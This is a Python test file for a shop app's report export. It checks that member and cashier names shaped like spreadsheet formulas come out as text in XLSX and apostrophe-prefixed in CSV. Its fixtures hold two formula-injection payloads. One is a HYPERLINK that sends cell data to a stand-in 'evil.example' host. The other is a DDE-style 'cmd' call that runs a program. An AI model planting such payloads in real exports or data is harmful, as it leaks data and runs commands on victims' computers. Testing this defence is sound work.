"""A member or cashier whose name looks like a formula stays text in the report files:
the XLSX cell is a string (not a formula a spreadsheet runs), the CSV field carries the
apostrophe the data exports put before such text."""

import csv
import uuid
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from app.domain.report_figures import ReportFilter
from app.domain.report_periods import period_for
from app.services.dto import MemberInput
from app.ui.report_files import write_headless

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CASHIER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def shop(terminal):
    terminal.ctx.clock = lambda: datetime(2026, 3, 3, 12, 0)
    terminal.ctx.local_tz = timezone.utc
    terminal.ctx.cashier = CASHIER
    member = terminal.till.enrol(MemberInput(first_name=EVIL, last_name="", phone="+7 916 123-45-67",
                                        consent=True))
    terminal.till.record_purchase(uuid.uuid4(), member, 100000)
    return terminal


def _write(shop, fmt, tmp_path):
    period = period_for("month", shop.ctx.today())
    return write_headless(shop, period, ReportFilter(), fmt, tmp_path / f"r.{fmt}", "en")


def test_report_workbook_keeps_formula_like_names_as_text(qapp, shop, tmp_path):
    book = load_workbook(_write(shop, "xlsx", tmp_path))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and (EVIL in c.value or CASHIER in c.value)]
    assert {c.value for c in cells} >= {EVIL, CASHIER}  # the top members and staff tables
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]
    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]


def test_report_csv_puts_an_apostrophe_before_formula_like_text(qapp, shop, tmp_path):
    path = _write(shop, "csv", tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        fields = [field for row in csv.reader(f) for field in row]
    assert "'" + EVIL in fields
    assert "'" + CASHIER in fields
    assert EVIL not in fields and CASHIER not in fields
    # Numbers stay numbers: a negative or plain figure gets no apostrophe.
    assert "1000.00" in fields
